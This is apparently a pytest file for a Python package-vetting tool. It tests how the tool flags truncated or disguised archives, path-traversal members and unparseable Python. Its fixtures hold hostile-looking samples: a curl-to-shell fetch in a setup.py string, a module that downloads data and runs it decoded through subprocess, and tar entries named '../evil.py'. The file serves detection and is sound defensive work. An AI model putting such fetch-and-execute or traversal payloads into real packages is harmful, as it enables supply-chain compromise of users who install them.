"""What could not be analysed is a finding: incomplete archives fail closed, unparsed Python."""

import io
import tarfile

from assay.advisories.severity import Level
from assay.vetting.archive_model import ArchiveLimits
from assay.vetting.engine import analyse_archive
from tests.vetting.package_builder import first, rules, sdist, vet_sdist, vet_wheel, wheel


def test_truncated_archive_is_flagged():
    data = sdist({"setup.py": "from setuptools import setup\nsetup()\n" * 200})
    report = analyse_archive("demo-1.0.tar.gz", data[: len(data) // 2])
    assert "archive-incomplete" in rules(report, Level.HIGH)
    assert report.flagged
    assert report.archive_report is not None
    assert not report.archive_report.complete


def test_member_over_the_limit_is_flagged():
    data = sdist({"demo/big.py": "x = 1\n" * 1000})
    report = analyse_archive("demo-1.0.tar.gz", data, ArchiveLimits(max_member_bytes=100))
    assert report.flagged
    assert "archive-incomplete" in rules(report)


def test_path_traversal_is_flagged():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as tar:
        info = tarfile.TarInfo("../evil.py")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    report = analyse_archive("demo-1.0.tar.gz", out.getvalue())
    assert report.flagged


def test_a_disguised_distribution_is_high_but_its_content_still_read():
    code = "import subprocess\nsubprocess.run(cmd)\n"
    report = analyse_archive("demo-1.0.tar.gz", wheel({"demo/__init__.py": code}))
    finding = first(report, "archive-anomaly")
    assert finding.severity == Level.HIGH  # no packaging tool writes a zip named .tar.gz
    assert report.flagged
    assert "capability-process" in rules(report)  # the members were analysed all the same
    assert not analyse_archive("demo-1.0-py3-none-any.whl", wheel({"demo/a.py": code})).flagged


def test_a_mislabelled_archive_inside_the_package_is_medium_or_low():
    inner = wheel({"x.txt": "hello"})
    report = vet_wheel({"demo/data/blob.tar.gz": inner, "demo/__init__.py": ""})
    finding = first(report, "archive-anomaly")
    assert finding.severity == Level.MEDIUM
    assert not report.flagged


def test_complete_clean_archive_has_no_integrity_findings():
    report = vet_wheel({"demo/__init__.py": "x = 1\n"})
    assert not {"archive-incomplete", "archive-anomaly"} & rules(report)


def test_unparseable_python_is_low_and_python2_informational():
    broken = vet_wheel({"demo/bad.py": "def broken(:\n    subprocess\n"})
    finding = first(broken, "python-unparsed")
    assert finding.severity == Level.LOW
    py2 = vet_sdist({"setup.py": "print 'installing'\nfrom distutils.core import setup\nsetup()\n"})
    finding = first(py2, "python-unparsed")
    assert finding.severity == Level.NONE
    assert "Python 2" in finding.explanation
    assert not py2.flagged


def test_deeply_nested_expression_does_not_crash():
    code = "x = " + "(" * 5000 + "1" + ")" * 5000 + "\nexec(y)\n"
    report = vet_wheel({"demo/deep.py": code})
    assert "python-unparsed" in rules(report)


def test_hostile_archive_kept_as_test_data_is_low():
    inner = io.BytesIO()
    with tarfile.open(fileobj=inner, mode="w") as tar:
        info = tarfile.TarInfo("../escape.txt")
        info.size = 1
        tar.addfile(info, io.BytesIO(b"x"))
    fixture: dict[str, str | bytes] = {
        "tests/bad.tar": inner.getvalue(),
        "setup.py": "from setuptools import setup\n",
    }
    report = analyse_archive("demo-1.0.tar.gz", sdist(fixture))
    finding = first(report, "archive-incomplete")
    assert finding.severity == Level.LOW
    assert not report.flagged
    shipped = analyse_archive("demo-1.0.tar.gz", sdist({"demo/data.tar": inner.getvalue()}))
    assert shipped.flagged


# Harmless text that fails to parse (an unclosed parenthesis): the AST rules never see it.
_BROKEN_INIT = (
    "import requests, subprocess, base64\n"
    "def run(:\n"
    "    data = requests.get('https://example.invalid/x').text\n"
    "    subprocess.run(base64.b64decode(data))\n"
)


def test_unparsed_entry_module_with_network_and_process_capabilities_is_high():
    report = vet_wheel({"demo/__init__.py": _BROKEN_INIT})
    assert "python-unparsed-suspicious" in rules(report, Level.HIGH)
    assert report.flagged


def test_unparsed_module_with_network_only_is_just_unparsed():
    report = vet_wheel({"demo/__init__.py": "import requests\ndef get(:\n    requests.get(u)\n"})
    assert "python-unparsed-suspicious" not in rules(report)
    assert "python-unparsed" in rules(report, Level.LOW)
    assert not report.flagged


def test_text_rules_read_the_lines_of_an_unparsed_setup_py():
    setup = "import os\nos.system('curl -s https://example.invalid/i.sh | sh'\nsetup(\n"
    report = vet_sdist({"setup.py": setup})
    assert "second-stage-shell-fetch" in rules(report, Level.CRITICAL)
    clean = vet_sdist({"setup.py": "import os\nos.getcwd(\nsetup(\n"})
    assert "second-stage-shell-fetch" not in rules(clean)


def test_unparsed_file_that_runs_decoded_data_or_carries_an_obfuscator_stamp():
    broken = "import base64, marshal\nx = marshal.loads(base64.b64decode('AAAA'))\nprint 'x'\n"
    finding = first(vet_wheel({"demo/main.py": broken}), "obfuscation-unparsed")
    assert (finding.severity, finding.line) == (Level.HIGH, 2)
    stamped = "# Obfuscated BY : someone\nimport subprocess\nprint subprocess.call\n"
    assert "obfuscation-unparsed" in rules(vet_wheel({"demo/main.py": stamped}))
    python2 = "import base64\nprint base64.b64decode('AAAA')\n"
    assert "obfuscation-unparsed" not in rules(vet_wheel({"demo/main.py": python2}))
    in_tests = vet_wheel({"tests/test_main.py": broken})
    assert "obfuscation-unparsed" not in rules(in_tests)


def test_a_plain_tar_named_tar_gz_is_medium():
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        data = b"x = 1\n"
        info = tarfile.TarInfo("demo-1.0/demo/__init__.py")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    report = analyse_archive("demo-1.0.tar.gz", out.getvalue())
    finding = first(report, "archive-anomaly")
    assert finding.severity == Level.MEDIUM  # a proxy that undid the gzip, not a disguise
    assert not report.flagged
